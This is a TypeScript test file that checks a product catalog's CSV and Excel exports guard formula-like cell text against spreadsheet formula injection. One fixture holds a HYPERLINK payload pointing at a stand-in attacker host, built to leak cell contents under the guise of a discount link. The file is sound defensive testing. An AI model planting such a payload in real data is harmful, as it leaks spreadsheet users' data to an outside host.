import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importColumnKeys } from '@propwash/domain/catalog/import-columns';
import { parseCsv } from '@propwash/domain/platform/csv';
import { testAppWithAdmin, type TestApp } from '../../../test/test-app.ts';
import { products } from '../catalog.tables.ts';
import { transferCalls } from './transfer.fixtures.ts';

let t: TestApp;
let admin: { authorization: string };

const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")';
// What a spreadsheet would run as a formula, and a name that already starts with the guard.
const names: Record<string, string> = {
  'FORMULA-1': hyperlink,
  'FORMULA-2': '+91 Trainer',
  'FORMULA-3': '-40 Degree Servo',
  'FORMULA-4': '@home Glider',
  'FORMULA-5': "'=Quoted Already",
  'FORMULA-6': 'Plain Glider',
};

beforeAll(async () => {
  ({ t, admin } = await testAppWithAdmin());
  const category = await t.makeCategory({ slug: 'gliders', name: 'Gliders' });
  for (const [sku, name] of Object.entries(names)) {
    await t.postProduct(admin, {
      name,
      sku,
      category: category.id,
      price: 999,
      description: '- Brushless motor\n- Carbon spar',
    });
  }
});
afterAll(() => t.close());

const { importFile, exportAs } = transferCalls(() => ({ t, admin }));

const column = (key: string) => importColumnKeys.indexOf(key as never);

describe('a product export that no spreadsheet runs as a formula', () => {
  it('guards formula text in the CSV with a quote and imports it back unchanged', async () => {
    const file = await exportAs('csv');
    const records = parseCsv(file.toString('utf8'));
    const bySku = new Map(records.map((r) => [r[column('sku')], r]));
    expect(bySku.get('FORMULA-1')![column('name')]).toBe(`'${hyperlink}`);
    expect(bySku.get('FORMULA-2')![column('name')]).toBe("'+91 Trainer");
    expect(bySku.get('FORMULA-3')![column('name')]).toBe("'-40 Degree Servo");
    expect(bySku.get('FORMULA-4')![column('name')]).toBe("'@home Glider");
    expect(bySku.get('FORMULA-5')![column('name')]).toBe("''=Quoted Already");
    expect(bySku.get('FORMULA-6')![column('name')]).toBe('Plain Glider');
    expect(bySku.get('FORMULA-1')![column('description')]).toBe(
      "'- Brushless motor\n- Carbon spar",
    );
    // No cell of the file starts a formula.
    for (const r of records.slice(1)) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);

    const res = await importFile(file, '', { name: 'products.csv' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().data).toMatchObject({ created: 0, updated: 0, unchanged: 6, errorCount: 0 });
  });

  it('guards formula text in the Excel workbook too and imports it back unchanged', async () => {
    const file = await exportAs('xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const cells = new Map<string, unknown>();
    sheet.eachRow((row) => {
      cells.set(
        String(row.getCell(column('sku') + 1).value),
        row.getCell(column('name') + 1).value,
      );
    });
    expect(cells.get('FORMULA-1')).toBe(`'${hyperlink}`);
    expect(cells.get('FORMULA-5')).toBe("''=Quoted Already");

    const res = await importFile(file, '', { name: 'products.xlsx' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().data).toMatchObject({ created: 0, updated: 0, unchanged: 6, errorCount: 0 });
  });

  it('reads a guarded name in an owner-made file as the name without the guard', async () => {
    const csv = `sku,name,category,description,price,country_of_origin\r\nFORMULA-7,'=SUM(1),gliders,A glider.,999,China\r\n`;
    const res = await importFile(Buffer.from(csv), '', { name: 'products.csv' });
    expect(res.statusCode, res.body).toBe(200);
    const [product] = await t.db.select().from(products).where(eq(products.sku, 'FORMULA-7'));
    expect(product!.name).toBe('=SUM(1)');
  });
});
